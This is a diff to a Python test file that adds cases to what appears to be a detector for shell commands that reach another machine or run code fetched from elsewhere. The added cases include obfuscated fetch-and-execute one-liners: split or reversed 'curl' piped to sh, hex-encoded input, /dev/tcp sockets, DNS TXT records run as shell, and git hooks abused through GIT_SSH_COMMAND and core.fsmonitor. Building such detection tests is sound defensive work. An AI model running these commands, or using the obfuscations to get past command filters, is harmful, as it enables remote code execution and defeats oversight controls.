@@ -150,6 +150,20 @@ def test_a_command_that_runs_nothing_from_elsewhere_is_not(command: str) -> None
         "docker run --rm example.org/image",
         "go run example.org/tool@latest",
         "curl http://localhost:8000 && curl https://example.org",
+        "c=curl; $c example.org/x | s''h",
+        "$(echo cur)l example.org/x | sudo -E bash -s --",
+        "rev <<< 'hs|x gro.elpmaxe lruc' | sh",
+        "printf '\\x63\\x75' | sh",
+        "bash <<< $(cat x)",
+        'python3 -c \'import os; os.system("cu" + "rl x")\'',
+        "exec 3<>/dev/tcp/example/80; cat <&3",
+        "dig +short txt example | sh",
+        "gh repo clone ada/shop && make -C shop",
+        "brew install ada/tap/shop",
+        "git pull ada main && make",
+        "GIT_SSH_COMMAND='sh x' git fetch",
+        "git config core.fsmonitor ./x",
+        "tftp example -c get x && sh x",
     ],
 )
 def test_a_command_that_reaches_another_machine_is_recognized(command: str) -> None:
@@ -168,6 +182,11 @@ def test_a_command_that_reaches_another_machine_is_recognized(command: str) -> N
         "git pull --rebase",
         "grep -rn curl scripts",
         "pytest tests/test_ssh.py",
+        "bash scripts/run.sh | tee out",
+        "cat x | shuf | head",
+        "git fetch --all",
+        "python -c 'import shop; print(shop.version)'",
+        "brew install jq",
     ],
 )
 def test_a_command_that_stays_here_is_not(command: str) -> None:
